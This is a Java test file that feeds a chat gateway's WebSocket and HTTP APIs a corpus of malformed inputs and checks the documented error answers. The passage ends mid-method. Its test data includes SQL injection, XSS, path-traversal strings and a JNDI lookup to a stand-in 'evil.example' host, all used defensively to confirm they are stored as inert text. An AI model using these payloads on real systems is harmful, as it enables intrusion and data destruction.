package dev.mesh.dev;

import static dev.mesh.dev.Hostile.WAIT;
import static dev.mesh.dev.Hostile.assertANewClientIsServed;
import static dev.mesh.dev.Hostile.assertHealthy;
import static dev.mesh.dev.Hostile.assertNothingLeaked;
import static dev.mesh.dev.Hostile.json;
import static dev.mesh.dev.Hostile.nested;
import static dev.mesh.dev.Hostile.problemCode;
import static dev.mesh.dev.Hostile.send;
import static dev.mesh.dev.TestMesh.connectWithHeader;
import static dev.mesh.dev.TestMesh.text;
import static dev.mesh.dev.TestMesh.token;
import static org.assertj.core.api.Assertions.assertThat;

import java.net.URLEncoder;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeMap;
import java.util.UUID;
import java.util.stream.IntStream;

import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

import tools.jackson.databind.JsonNode;

import dev.mesh.contracts.MeshJson;
import dev.mesh.testkit.ws.WsTestClient;

/**
 * Every class of bad input (issue #11, part 2) against {@code /ws} and the HTTP APIs, each
 * asserted against its documented answer (docs/protocol.md), and the mesh healthy for the
 * next client afterwards. Complements {@code WalkingSkeletonTest.BadInputIsAnsweredAndTheSocketStaysUsable}
 * (not JSON, unknown type, missing id, 70 KB → 1009, binary → 1003). Counts per class are
 * printed for docs/reliability.md.
 */
class BadInputCorpusTest {

    private static final String STUDENT = "corpus-student";
    private static int gateway;
    private static String roomId;
    /** class → cases run; printed at the end, the figures of docs/reliability.md. */
    private static final Map<String, Integer> counts = new TreeMap<>();

    @BeforeAll
    static void mesh() {
        gateway = Hostile.gateway();
        roomId = TestMesh.get().roomId;
    }

    @AfterAll
    static void report() {
        System.out.println("BadInputCorpusTest cases per class: " + counts);
    }

    private static void count(String inputClass) {
        synchronized (counts) {
            counts.merge(inputClass, 1, Integer::sum);
        }
    }

    // The WebSocket corpus

    /** What the server must answer to one frame. */
    private sealed interface Expect {
    }

    /** An {@code error} with this code; with the frame's {@code ref} when it had a readable id. */
    private record Error(String code) implements Expect {
    }

    /** Accepted: an {@code ack}. */
    private record Ack() implements Expect {
    }

    /** An ephemeral frame: dropped without a reply. */
    private record Dropped() implements Expect {
    }

    private record Case(String inputClass, String name, String frame, String ref, Expect expect) {

        Case withFrame(String otherFrame, String otherRef) {
            return new Case(inputClass, name, otherFrame, otherRef, expect);
        }
    }

    private static String frame(String type, String id, String dataJson) {
        StringBuilder json = new StringBuilder("{");
        if (type != null) {
            json.append("\"type\":").append(MeshJson.write(type));
        }
        if (id != null) {
            json.append(json.length() > 1 ? "," : "").append("\"id\":").append(MeshJson.write(id));
        }
        if (dataJson != null) {
            json.append(json.length() > 1 ? "," : "").append("\"data\":").append(dataJson);
        }
        return json.append('}').toString();
    }

    private static String q(String text) {
        return MeshJson.write(text);
    }

    private static Case validation(String inputClass, String name, String type, boolean readableId, String dataJson) {
        String id = readableId ? UUID.randomUUID().toString() : null;
        return new Case(inputClass, name, frame(type, id, dataJson), id, new Error("VALIDATION"));
    }

    private static Case raw(String inputClass, String name, String frame, Expect expect) {
        return new Case(inputClass, name, frame, null, expect);
    }

    private static Case command(String inputClass, String name, String type, String dataJson, Expect expect) {
        String id = UUID.randomUUID().toString();
        return new Case(inputClass, name, frame(type, id, dataJson), id, expect);
    }

    private static List<Case> socketCorpus() {
        String room = q(roomId);
        String x2001 = "x".repeat(2001);
        List<Case> corpus = new ArrayList<>();
        // Not JSON, or not a JSON object.
        for (String notJson : List.of("", " ", "{", "}", "hello", "{'type':'chat:join'}", "/* c */{\"type\":\"chat:join\"}",
                "[]", "null", "42", "true", "\"chat:join\"", "{\"type\":\"chat:join\",}", "{\"type\" \"chat:join\"}")) {
            corpus.add(raw("not JSON", MeshJson.write(notJson), notJson, new Error("VALIDATION")));
        }
        // Truncated JSON.
        String whole = frame("chat:join", "t-1", "{\"roomId\":" + room + "}");
        for (int cut : new int[] {1, 9, 20, whole.length() / 2, whole.length() - 1}) {
            corpus.add(raw("truncated JSON", "cut at " + cut, whole.substring(0, cut), new Error("VALIDATION")));
        }
        corpus.add(raw("truncated JSON", "NaN", frame("chat:read", "nan-1", "{\"roomId\":" + room + ",\"upToSeq\":NaN}"),
                new Error("VALIDATION")));
        // Deeply nested JSON (10,000 levels; a frame under 64 KB).
        corpus.add(raw("deeply nested JSON", "10000 arrays", nested(10_000, "[", "1", "]"), new Error("VALIDATION")));
        corpus.add(raw("deeply nested JSON", "10000 objects in data",
                frame("chat:message", "deep-1", nested(10_000, "{\"a\":", "1", "}")), new Error("VALIDATION")));
        corpus.add(raw("deeply nested JSON", "10000 arrays in content",
                frame("chat:message", "deep-2", "{\"roomId\":" + room + ",\"content\":" + nested(10_000, "[", "\"x\"", "]") + "}"),
                new Error("VALIDATION")));
        // Huge strings (within the frame limit).
        corpus.add(validation("huge strings", "content 2001 chars", "chat:message", true, "{\"roomId\":" + room + ",\"content\":" + q(x2001) + "}"));
        corpus.add(validation("huge strings", "content 60000 chars", "chat:message", true,
                "{\"roomId\":" + room + ",\"content\":" + q("y".repeat(60_000)) + "}"));
        corpus.add(command("huge strings", "roomId 60000 chars", "chat:join", "{\"roomId\":" + q("r".repeat(60_000)) + "}",
                new Error("NOT_FOUND")));
        corpus.add(command("huge strings", "messageId 60000 chars", "chat:edit",
                "{\"roomId\":" + room + ",\"messageId\":" + q("m".repeat(60_000)) + ",\"content\":\"x\"}", new Error("VALIDATION")));
        corpus.add(validation("huge strings", "type 60000 chars", "chat:" + "z".repeat(60_000), true, "{}"));
        corpus.add(validation("huge strings", "id 65 chars", "chat:join", false, "{\"roomId\":" + room + "}")
                .withFrame(frame("chat:join", "i".repeat(65), "{\"roomId\":" + room + "}"), null));
        corpus.add(validation("huge strings", "presence text 101 code points", "presence:set", true,
                "{\"status\":\"busy\",\"text\":" + q("😀".repeat(101)) + "}"));
        corpus.add(validation("huge strings", "emoji 60000 chars", "chat:react", true,
                "{\"roomId\":" + room + ",\"messageId\":\"m\",\"emoji\":" + q("👍".repeat(14_000)) + "}"));
        // A frame of exactly the limit is read (and its content refused); one byte more closes (below).
        String prefix = "{\"type\":\"chat:message\",\"id\":\"limit-1\",\"data\":{\"roomId\":" + room + ",\"content\":\"";
        String suffix = "\"}}";
        corpus.add(raw("huge frames", "exactly 65536 bytes",
                prefix + "w".repeat(65_536 - prefix.length() - suffix.length()) + suffix, new Error("VALIDATION")));
        // Wrong field types.
        corpus.add(validation("wrong field types", "type is a number", null, true, "{}").withFrame("{\"type\":42,\"id\":\"wt-1\",\"data\":{}}", "wt-1"));
        corpus.add(validation("wrong field types", "id is a number", null, false, null)
                .withFrame("{\"type\":\"chat:join\",\"id\":42,\"data\":{\"roomId\":" + room + "}}", null));
        corpus.add(validation("wrong field types", "id is an object", null, false, null)
                .withFrame("{\"type\":\"chat:join\",\"id\":{\"$ne\":null},\"data\":{\"roomId\":" + room + "}}", null));
        corpus.add(validation("wrong field types", "data is an array", "chat:join", true, "[" + room + "]"));
        corpus.add(validation("wrong field types", "data is null", "chat:join", true, "null"));
        corpus.add(validation("wrong field types", "roomId is a number", "chat:join", true, "{\"roomId\":42}"));
        corpus.add(validation("wrong field types", "roomId is an object", "chat:join", true, "{\"roomId\":{\"$gt\":\"\"}}"));
        // A number where text is expected is read as its text (Jackson's scalar coercion): the message "42".
        corpus.add(command("wrong field types", "content is a number", "chat:message", "{\"roomId\":" + room + ",\"content\":42}",
                new Ack()));
        corpus.add(command("wrong field types", "content is a list", "chat:message", "{\"roomId\":" + room + ",\"content\":[\"a\"]}",
                new Error("VALIDATION")));
        corpus.add(command("wrong field types", "sinceSeq is text", "chat:join", "{\"roomId\":" + room + ",\"sinceSeq\":\"abc\"}",
                new Error("VALIDATION")));
        corpus.add(command("wrong field types", "upToSeq is a boolean", "chat:read", "{\"roomId\":" + room + ",\"upToSeq\":true}",
                new Error("VALIDATION")));
        corpus.add(command("wrong field types", "status is a number", "presence:set", "{\"status\":42}", new Error("VALIDATION")));
        corpus.add(command("wrong field types", "ids is text", "notification:read", "{\"ids\":\"all\"}", new Error("VALIDATION")));
        corpus.add(command("wrong field types", "userIds is text", "presence:subscribe", "{\"userIds\":\"ada\"}", new Error("VALIDATION")));
        corpus.add(raw("wrong field types", "typing with isTyping text (ephemeral)",
                frame("chat:typing", null, "{\"roomId\":" + room + ",\"isTyping\":\"yes\"}"), new Dropped()));
        corpus.add(raw("wrong field types", "auth with a numeric token", frame("auth", null, "{\"token\":42}"), new Error("VALIDATION")));
        // Missing fields.
        corpus.add(validation("missing fields", "no type", null, true, "{}"));
        corpus.add(validation("missing fields", "no data", "chat:message", true, null));
        corpus.add(command("missing fields", "no content", "chat:message", "{\"roomId\":" + room + "}", new Error("VALIDATION")));
        corpus.add(command("missing fields", "no messageId", "chat:edit", "{\"roomId\":" + room + ",\"content\":\"x\"}",
                new Error("VALIDATION")));
        corpus.add(command("missing fields", "no emoji", "chat:react", "{\"roomId\":" + room + ",\"messageId\":\"m\"}",
                new Error("VALIDATION")));
        // Every field of presence:set is optional: without status the status stays as it is.
        corpus.add(command("missing fields", "no status", "presence:set", "{}", new Ack()));
        corpus.add(command("missing fields", "read with neither ids nor upToSeq", "notification:read", "{}", new Error("VALIDATION")));
        corpus.add(validation("missing fields", "no roomId", "chat:join", true, "{}"));
        corpus.add(validation("missing fields", "no sessionId", "quiz:answer", true, "{\"questionIndex\":0,\"answer\":0}"));
        corpus.add(raw("missing fields", "auth without token", frame("auth", null, "{}"), new Error("VALIDATION")));
        // Extra fields are ignored (a forged sender among them: the user is the token's).
        corpus.add(command("extra fields", "join with extra fields", "chat:join",
                "{\"roomId\":" + room + ",\"userId\":\"ada\",\"roles\":[\"admin\"],\"evil\":{\"x\":1}}", new Ack()));
        String extraId = UUID.randomUUID().toString();
        corpus.add(new Case("extra fields", "extra top-level fields",
                "{\"type\":\"chat:read\",\"id\":\"" + extraId + "\",\"data\":{\"roomId\":" + room
                        + ",\"upToSeq\":0},\"user\":{\"id\":\"ada\",\"roles\":[\"admin\"]},\"replyTo\":{\"instanceId\":\"x\"}}",
                extraId, new Ack()));
        // Unknown types (outside the catalogue).
        for (String type : List.of("", " ", "chat:fly", "CHAT:JOIN", "chat:join ", "chat:", ":", "__proto__", "constructor",
                "quiz:tick", "presence:heartbeat", "gateway.deliveries", "ack", "error", "welcome", "ping", "auth:refresh")) {
            corpus.add(validation("unknown types", MeshJson.write(type), type, true, "{\"roomId\":" + room + "}"));
        }
        // Negative and huge numbers.
        corpus.add(command("negative/huge numbers", "sinceSeq -1", "chat:join", "{\"roomId\":" + room + ",\"sinceSeq\":-1}",
                new Error("VALIDATION")));
        corpus.add(command("negative/huge numbers", "sinceSeq 1e30", "chat:join", "{\"roomId\":" + room + ",\"sinceSeq\":1e30}",
                new Error("VALIDATION")));
        corpus.add(command("negative/huge numbers", "sinceSeq 2^63", "chat:join",
                "{\"roomId\":" + room + ",\"sinceSeq\":9223372036854775808}", new Error("VALIDATION")));
        corpus.add(command("negative/huge numbers", "upToSeq -1", "chat:read", "{\"roomId\":" + room + ",\"upToSeq\":-1}",
                new Error("VALIDATION")));
        corpus.add(command("negative/huge numbers", "upToSeq 10^20", "chat:read",
                "{\"roomId\":" + room + ",\"upToSeq\":100000000000000000000}", new Error("VALIDATION")));
        corpus.add(command("negative/huge numbers", "notification upToSeq -1", "notification:read", "{\"upToSeq\":-1}",
                new Error("VALIDATION")));
        corpus.add(command("negative/huge numbers", "501 notification ids", "notification:read",
                "{\"ids\":" + MeshJson.write(IntStream.range(0, 501).mapToObj(i -> UUID.randomUUID().toString()).toList()) + "}",
                new Error("VALIDATION")));
        corpus.add(command("negative/huge numbers", "101 presence subscriptions", "presence:subscribe",
                "{\"userIds\":" + MeshJson.write(IntStream.range(0, 101).mapToObj(i -> "u" + i).toList()) + "}", new Error("VALIDATION")));
        corpus.add(command("negative/huge numbers", "expiresAt -1", "presence:set", "{\"status\":\"busy\",\"expiresAt\":-1}",
                new Error("VALIDATION")));
        corpus.add(command("negative/huge numbers", "questionIndex -1 of no session", "quiz:answer",
                "{\"sessionId\":\"no-such-session\",\"questionIndex\":-1,\"answer\":0}", new Error("NOT_FOUND")));
        // Injection strings used as ids are only ids: nothing found.
        for (String hostileId : List.of("'); DROP TABLE chat_rooms;--", "1 OR 1=1", "../../etc/passwd", "<script>alert(1)</script>",
                "${jndi:ldap://x/a}", "%00", "r1\n")) {
            corpus.add(command("SQL and script injection", "roomId " + MeshJson.write(hostileId), "chat:join",
                    "{\"roomId\":" + q(hostileId) + "}", new Error("NOT_FOUND")));
        }
        corpus.add(command("SQL and script injection", "roomId with NUL", "chat:join", "{\"roomId\":\"r\\u0000x\"}",
                new Error("VALIDATION")));
        corpus.add(command("SQL and script injection", "messageId 1 OR 1=1", "chat:edit",
                "{\"roomId\":" + room + ",\"messageId\":\"1 OR 1=1\",\"content\":\"x\"}", new Error("VALIDATION")));
        // Control characters are refused in content; zero-width, RTL and emoji are text (round trip below).
        for (String control : List.of("\u0000", "a\u0000b", "\u001b[31mred", "\u0007", "\u007f")) {
            corpus.add(command("zero-width and RTL characters", "control " + MeshJson.write(control), "chat:message",
                    "{\"roomId\":" + room + ",\"content\":" + q(control) + "}", new Error("VALIDATION")));
        }
        corpus.add(validation("SQL and script injection", "id with NUL", "chat:join", false, null)
                .withFrame("{\"type\":\"chat:join\",\"id\":\"\\u0000\",\"data\":{\"roomId\":" + room + "}}", null));
        corpus.add(validation("emoji edge cases", "id with a lone surrogate", "chat:join", false, null)
                .withFrame("{\"type\":\"chat:join\",\"id\":\"a\\ud83d\",\"data\":{\"roomId\":" + room + "}}", null));
        corpus.add(command("emoji edge cases", "lone surrogate", "chat:message", "{\"roomId\":" + room + ",\"content\":\"a\\ud83db\"}",
                new Error("VALIDATION")));
        for (String emoji : List.of("👍🏽", "👍👍", "", "x", "❤", "👨‍👩‍👧‍👦", "\u200B")) {
            corpus.add(command("emoji edge cases", "reaction " + MeshJson.write(emoji), "chat:react",
                    "{\"roomId\":" + room + ",\"messageId\":\"no-such-message\",\"emoji\":" + q(emoji) + "}", new Error("VALIDATION")));
        }
        return corpus;
    }

    @Test
    void everyBadFrameGetsItsDocumentedAnswerAndTheSocketStaysUsable() {
        List<String> mismatches = new ArrayList<>();
        try (WsTestClient student = connectWithHeader(gateway, STUDENT)) {
            TestMesh.join(student);
            for (Case c : socketCorpus()) {
                count(c.inputClass());
                String answer = answerTo(student, c);
                if (answer != null) {
                    mismatches.add(c.inputClass() + " / " + c.name() + ": " + answer);
                }
            }
            // Still usable after all of it.
            String id = student.sendCommand("chat:message", Map.of("roomId", roomId, "content", "still here"));
            assertThat(text(student.awaitReply(id, WAIT), "type")).isEqualTo("ack");
            assertNothingLeaked(student);
        }
        assertThat(mismatches).as("answers that differ from docs/protocol.md").isEmpty();
        assertANewClientIsServed(gateway, "corpus-next");
    }

    /** Sends one case; null if the answer is the documented one, else what happened. */
    private static String answerTo(WsTestClient client, Case c) {
        client.send(c.frame());
        // A probe the gateway answers at once and in order: everything before it was answered already.
        String probe = "probe-" + UUID.randomUUID();
        JsonNode answer;
        if (c.expect() instanceof Dropped) {
            client.send(frame("probe:none", probe, "{}"));
            JsonNode next = client.await(f -> "error".equals(text(f, "type")), WAIT);
            return probe.equals(text(next, "ref")) ? null : "expected no reply, got " + next;
        }
        if (c.ref() != null) {
            answer = client.awaitReply(c.ref(), WAIT);
        } else {
            answer = client.await(f -> "error".equals(text(f, "type")) || "ack".equals(text(f, "type")), WAIT);
        }
        String type = text(answer, "type");
        String shown = abbreviate(answer.toString());
        return switch (c.expect()) {
            case Ack ack -> "ack".equals(type) ? null : "expected ack, got " + shown;
            case Error error -> "error".equals(type) && error.code().equals(text(answer, "code"))
                    && (c.ref() == null || c.ref().equals(text(answer, "ref")))
                    ? null : "expected error " + error.code() + ", got " + shown;
            case Dropped dropped -> throw new IllegalStateException();
        };
    }

    private static String abbreviate(String text) {
        return text.length() <= 300 ? text : text.substring(0, 300) + "…";
    }

    @Test
    void framesThatCloseTheSocketCloseItWithTheDocumentedCode() {
        String room = q(roomId);
        String prefix = "{\"type\":\"chat:message\",\"id\":\"limit-2\",\"data\":{\"roomId\":" + room + ",\"content\":\"";
        String suffix = "\"}}";
        Map<String, Integer> closes = new LinkedHashMap<>();
        closes.put("65537 bytes", 1009);
        closes.put("an empty binary frame", 1003);
        closes.put("invalid UTF-8: a 0xFF byte", 1007);
        closes.put("invalid UTF-8: an overlong '/'", 1007);
        closes.put("invalid UTF-8: an encoded surrogate", 1007);
        closes.put("invalid UTF-8: a truncated sequence", 1007);
        closes.put("a bad token to refresh", 4001);
        Map<String, String> got = new LinkedHashMap<>();
        for (Map.Entry<String, Integer> c : closes.entrySet()) {
            count(c.getKey().startsWith("invalid UTF-8") ? "invalid UTF-8" : c.getKey().contains("binary") ? "binary frames"
                    : c.getKey().contains("token") ? "bad auth frame" : "huge frames");
            try (WsTestClient client = connectWithHeader(gateway, STUDENT)) {
                switch (c.getKey()) {
                    case "65537 bytes" -> client.send(prefix + "w".repeat(65_537 - prefix.length() - suffix.length()) + suffix);
                    case "an empty binary frame" -> client.sendBinary(new byte[0]);
                    case "invalid UTF-8: a 0xFF byte" -> client.sendTextBytes(utf8With(new byte[] {(byte) 0xFF, (byte) 0xFE}));
                    case "invalid UTF-8: an overlong '/'" -> client.sendTextBytes(utf8With(new byte[] {(byte) 0xC0, (byte) 0xAF}));
                    case "invalid UTF-8: an encoded surrogate" ->
                            client.sendTextBytes(utf8With(new byte[] {(byte) 0xED, (byte) 0xA0, (byte) 0x80}));
                    case "invalid UTF-8: a truncated sequence" -> {
                        byte[] whole = frame("chat:join", "u8", "{\"roomId\":" + room + "}").getBytes(StandardCharsets.UTF_8);
                        byte[] cut = java.util.Arrays.copyOf(whole, whole.length + 1);
                        cut[whole.length] = (byte) 0xE2;
                        client.sendTextBytes(cut);
                    }
                    case "a bad token to refresh" -> client.send(frame("auth", null, "{\"token\":\"not-a-token\"}"));
                    default -> throw new IllegalStateException(c.getKey());
                }
                WsTestClient.CloseStatus status = client.awaitClose(WAIT);
                if (status.code() != c.getValue()) {
                    got.put(c.getKey(), "closed with " + status.code() + " (" + status.reason() + "), frames " + client.received());
                }
                assertNothingLeaked(client);
            } catch (AssertionError stillOpen) {
                got.put(c.getKey(), abbreviate(stillOpen.getMessage()));
            }
        }
        assertThat(got).as("closes that differ from the documented code").isEmpty();
        assertANewClientIsServed(gateway, "corpus-next");
    }

    /**
     * A client closed for a bad frame while it is still sending megabytes behind it gets the close
     * code all the same: the gateway reads (and ignores) what comes after its close frame until the
     * client answers, instead of closing the TCP connection with data unread, which resets it, and
     * a client busy writing then loses the close frame already on its way (it saw -1, not 1003).
     */
    @Test
    void aClientStillSendingWhenClosedGetsTheCloseCode() {
        String filler = frame("chat:typing", null, "{\"roomId\":" + q(roomId) + ",\"isTyping\":true,\"pad\":\""
                + "p".repeat(2_000) + "\"}");
        Map<Integer, String> wrong = new LinkedHashMap<>();
        for (int round = 1; round <= 8; round++) {
            count("binary frames");
            try (WsTestClient client = connectWithHeader(gateway, STUDENT)) {
                client.sendBinary(new byte[0]);
                try {
                    for (int i = 0; i < 2_000; i++) {
                        client.send(filler); // ~4 MB behind the bad frame: more than the socket buffers hold
                    }
                } catch (IllegalStateException closedMeanwhile) {
                    // the close came while still sending: what matters is its code
                }
                WsTestClient.CloseStatus status = client.awaitClose(WAIT);
                if (status.code() != 1003) {
                    wrong.put(round, status.code() + " " + status.reason());
                }
            }
        }
        assertThat(wrong).as("rounds closed with another code than 1003").isEmpty();
        assertANewClientIsServed(gateway, "after-closing-senders");
    }

    private static byte[] utf8With(byte[] invalid) {
        byte[] head = ("{\"type\":\"chat:message\",\"id\":\"" + UUID.randomUUID() + "\",\"data\":{\"roomId\":" + q(roomId)
                + ",\"content\":\"a").getBytes(StandardCharsets.UTF_8);
        byte[] tail = "b\"}}".getBytes(StandardCharsets.UTF_8);
        byte[] all = new byte[head.length + invalid.length + tail.length];
        System.arraycopy(head, 0, all, 0, head.length);
        System.arraycopy(invalid, 0, all, head.length, invalid.length);
        System.arraycopy(tail, 0, all, head.length + invalid.length, tail.length);
        return all;
    }

    // Stored text comes back byte-identical: injection strings, zero-width, RTL and emoji are inert text.

    static final List<String> INERT_TEXT = List.of(
            "'); DROP TABLE chat_messages;--",
            "<script>alert(1)</script>",
            "\"><img src=x onerror=alert(1)>",
            "1' OR '1'='1",
            "${jndi:ldap://evil.example/a}",
            "{{7*7}} #{7*7} %s%n%x",
            "../../../../etc/passwd",
            "Robert'); DELETE FROM outbox; --\\",
            "\u200B",
            "zero\u200Bwidth\u200Cjoin\u200Dx\u2060y",
            "\u202Egnp.exe",
            "\u2067שלום\u2069 and مرحبا",
            "\uFEFFbom",
            "line\u2028separator\u2029end",
            "👨‍👩‍👧‍👦 🏳️‍🌈 🇺🇦 👍🏽 ❤️ e\u0301",
            "Z\u0338\u0322\u031Ba\u0337l\u0334g\u0336o\u0335",
            "😀".repeat(1000));

    @Test
    void injectionZeroWidthRtlAndEmojiTextIsStoredAndReturnedByteIdentical() throws Exception {
        String instructor = token("corpus-teacher", "instructor");
        Map<String, String> sent = new LinkedHashMap<>();
        try (WsTestClient student = connectWithHeader(gateway, STUDENT)) {
            TestMesh.join(student);
            for (String content : INERT_TEXT) {
                count(content.contains("DROP") || content.contains("script") || content.contains("OR '") || content.contains("jndi")
                        || content.contains("{{") || content.contains("etc/passwd") || content.contains("DELETE") || content.contains("onerror")
                        ? "SQL and script injection" : content.contains("😀") || content.contains("👨") ? "emoji edge cases"
                        : "zero-width and RTL characters");
                String id = student.sendCommand("chat:message", Map.of("roomId", roomId, "content", content));
                JsonNode reply = student.awaitReply(id, WAIT);
                assertThat(text(reply, "type")).as("%s → %s", MeshJson.write(content), reply).isEqualTo("ack");
                sent.put(reply.path("data").path("messageId").asString(), content);
                JsonNode event = student.await(f -> "chat:message".equals(text(f, "type")) && id.equals(text(f.path("data"), "clientRef")), WAIT);
                assertThat(text(event.path("data"), "content")).isEqualTo(content);
            }
            assertNothingLeaked(student);
        }
        // Read back over HTTP: the history has every one, byte for byte.
        Map<String, String> stored = new LinkedHashMap<>();
        String before = null;
        for (int page = 0; page < 10 && stored.keySet().containsAll(sent.keySet()) == false; page++) {
            HttpResponse<String> history = assertHealthy(send(gateway, "GET", "/api/chat/rooms/" + roomId + "/messages?limit=100"
                    + (before == null ? "" : "&beforeSeq=" + before), token(STUDENT, "student"), null), "history");
            assertThat(history.statusCode()).isEqualTo(200);
            JsonNode items = json(history).get("items");
            for (JsonNode item : items) {
                stored.put(text(item, "messageId"), text(item, "content"));
                before = before == null || item.get("seq").asLong() < Long.parseLong(before) ? item.get("seq").asString() : before;
            }
        }
        for (Map.Entry<String, String> m : sent.entrySet()) {
            assertThat(stored.get(m.getKey())).as("message %s", m.getKey()).isEqualTo(m.getValue());
            assertThat(stored.get(m.getKey()).getBytes(StandardCharsets.UTF_8)).isEqualTo(m.getValue().getBytes(StandardCharsets.UTF_8));
        }
        // Search finds the SQL text as text, and its snippet is escaped HTML.
        HttpResponse<String> search = assertHealthy(send(gateway, "GET", "/api/chat/search?q="
                + URLEncoder.encode("'); DROP TABLE chat_messages;--", StandardCharsets.UTF_8), token(STUDENT, "student"), null), "search");
        assertThat(search.statusCode()).isEqualTo(200);
        HttpResponse<String> scriptSearch = assertHealthy(send(gateway, "GET", "/api/chat/search?q=script+alert",
                token(STUDENT, "student"), null), "search");
        for (JsonNode hit : json(scriptSearch).get("items")) {
            assertThat(text(hit, "snippetHtml")).doesNotContain("<script>").doesNotContain("<img");
        }
        // A room named with markup and SQL keeps its name, as text.
        String name = "<script>alert(1)</script>'); DROP TABLE chat_rooms;--";
        HttpResponse<String> created = assertHealthy(send(gateway, "POST", "/api/chat/rooms", instructor,
                MeshJson.write(Map.of("name", name, "type", "public", "description", "\u202E" + INERT_TEXT.get(2)))), "room");
        assertThat(created.statusCode()).as(created.body()).isEqualTo(201);
        HttpResponse<String> read = send(gateway, "GET", "/api/chat/rooms/" + text(json(created), "id"), instructor, null);
        assertThat(text(json(read), "name")).isEqualTo(name);
        assertThat(text(json(read), "description")).isEqualTo("\u202E" + INERT_TEXT.get(2));
    }

    // The HTTP corpus

    private record HttpCase(String inputClass, String method, String path, String token, String body, String contentType,
                            Set<Integer> statuses) {
    }

    /**
     * The documented answer to a bad body: 400 VALIDATION; 413 over the body limit. Where the
     * API reads fewer fields than the corpus sends, what it ignores is no error: a PATCH or a
     * preferences PUT without recognised fields changes nothing (200; docs/protocol.md: every
     * PATCH field is optional, kinds left out of preferences keep every channel), and a member
     * role change checks membership first (404 for a non-member).
     */
    private static Set<Integer> expectedStatuses(String endpoint, String inputClass) {
        if (inputClass.equals("huge strings")) {
            return Set.of(413);
        }
        boolean fieldLevel = Set.of("missing fields", "extra fields and unknown values", "negative/huge numbers", "wrong field types",
                "NUL characters").contains(inputClass);
        if (fieldLevel && endpoint.startsWith("PATCH") && !inputClass.equals("wrong field types") && !inputClass.equals("negative/huge numbers")
                && !inputClass.equals("NUL characters")) {
            return Set.of(200);
        }
        if (inputClass.equals("wrong field types") && endpoint.endsWith("/invites")) {
            return Set.of(200, 201, 400); // Jackson reads the number 99 as the user id "99": an invitation for user "99"
        }
        if (inputClass.equals("NUL characters") && endpoint.contains("/presence/")) {
            return Set.of(200, 400); // the privacy value is trimmed (U+0000 is below ' '): "nobody"
        }
        if (fieldLevel && endpoint.contains("/members/")) {
            return Set.of(400, 404);
        }
        if (fieldLevel && endpoint.contains("/preferences") && Set.of("missing fields", "negative/huge numbers").contains(inputClass)) {
            return Set.of(200);
        }
        return Set.of(400);
    }

    @Test
    void everyHttpApiAnswersBadInputWithA4xxProblemAndNoInternals() throws Exception {
        String admin = token("corpus-admin", "admin");
        String instructor = token("ada", "instructor"); // owns the shared room
        String student = token(STUDENT, "student");
        String room = roomId;
        // Each JSON endpoint with a body, and who may call it.
        Map<String, String[]> endpoints = new LinkedHashMap<>();
        endpoints.put("POST /api/chat/rooms", new String[] {instructor});
        endpoints.put("PATCH /api/chat/rooms/" + room, new String[] {instructor});
        endpoints.put("PUT /api/chat/rooms/" + room + "/members/" + STUDENT, new String[] {instructor});
        endpoints.put("POST /api/chat/rooms/" + room + "/invites", new String[] {instructor});
        endpoints.put("POST /api/quiz/quizzes", new String[] {instructor});
        endpoints.put("PUT /api/presence/me/settings", new String[] {student});
        endpoints.put("PUT /api/notifications/preferences", new String[] {student});
        endpoints.put("POST /api/notifications/announcements", new String[] {admin});
        Map<String, String> bodies = new LinkedHashMap<>();
        bodies.put("not JSON", "hello");
        bodies.put("empty body", "");
        bodies.put("truncated JSON", "{\"name\":\"x\",\"type\":");
        bodies.put("deeply nested JSON", nested(10_000, "{\"a\":", "1", "}"));
        bodies.put("deeply nested JSON (arrays)", nested(10_000, "[", "1", "]"));
        bodies.put("huge strings", "{\"name\":" + q("n".repeat(1_000_000)) + ",\"type\":\"public\",\"title\":" + q("t".repeat(100_000)) + "}");
        bodies.put("wrong field types", "{\"name\":42,\"type\":true,\"maxMembers\":\"many\",\"role\":[],\"privacy\":7,\"title\":{},"
                + "\"questions\":\"all\",\"email\":[],\"userId\":99,\"audience\":\"all\",\"slowModeSeconds\":\"fast\"}");
        bodies.put("missing fields", "{}");
        bodies.put("extra fields and unknown values", "{\"zzz\":1,\"type\":\"galaxy\",\"role\":\"overlord\",\"privacy\":\"sometimes\","
                + "\"priority\":\"urgent!\",\"audience\":{\"kind\":\"universe\"},\"quietHours\":{\"start\":\"25:99\",\"end\":\"x\",\"timeZone\":\"Mars/Olympus\"}}");
        bodies.put("negative/huge numbers", "{\"name\":\"n\",\"type\":\"public\",\"maxMembers\":-1,\"slowModeSeconds\":1e400,"
                + "\"historyRetentionDays\":99999999999999999999999,\"title\":\"t\",\"questions\":[{\"type\":\"single\",\"text\":\"q\","
                + "\"options\":[\"a\",\"b\"],\"correct\":-1,\"timeLimitSeconds\":-5,\"points\":1e308}]}");
        bodies.put("NUL characters", "{\"name\":\"a\\u0000b\",\"type\":\"public\",\"description\":\"\\u0000\",\"role\":\"member\\u0000\","
                + "\"userId\":\"x\\u0000\",\"title\":\"t\\u0000\",\"body\":\"b\\u0000\",\"privacy\":\"nobody\\u0000\",\"email\":\"a\\u0000@example.org\","
                + "\"audience\":{\"kind\":\"all\"},\"questions\":[{\"type\":\"true_false\",\"text\":\"\\u0000\",\"correct\":true}]}");
        bodies.put("JSON array", "[1,2,3]");
        bodies.put("JSON null", "null");
        List<HttpCase> cases = new ArrayList<>();
        for (Map.Entry<String, String[]> endpoint : endpoints.entrySet()) {
            String[] methodPath = endpoint.getKey().split(" ", 2);
            for (Map.Entry<String, String> body : bodies.entrySet()) {
                cases.add(new HttpCase(body.getKey(), methodPath[0], methodPath[1], endpoint.getValue()[0], body.getValue(),
                        "application/json", expectedStatuses(endpoint.getKey(), body.getKey())));
            }
            cases.add(new HttpCase("wrong content type", methodPath[0], methodPath[1], endpoint.getValue()[0], "name=x",
                    "application/x-www-form-urlencoded", Set.of(415)));
            cases.add(new HttpCase("wrong content type", methodPath[0], methodPath[1], endpoint.getValue()[0], "{\"name\":\"x\"}",
                    "application/json; charset=nonsense", Set.of(415)));
        }
        // Query parameters and path segments.
        Map<String, Set<Integer>> gets = new LinkedHashMap<>();
        gets.put("/api/chat/rooms/" + room + "/messages?limit=-1", Set.of(400));
        gets.put("/api/chat/rooms/" + room + "/messages?limit=abc", Set.of(400));
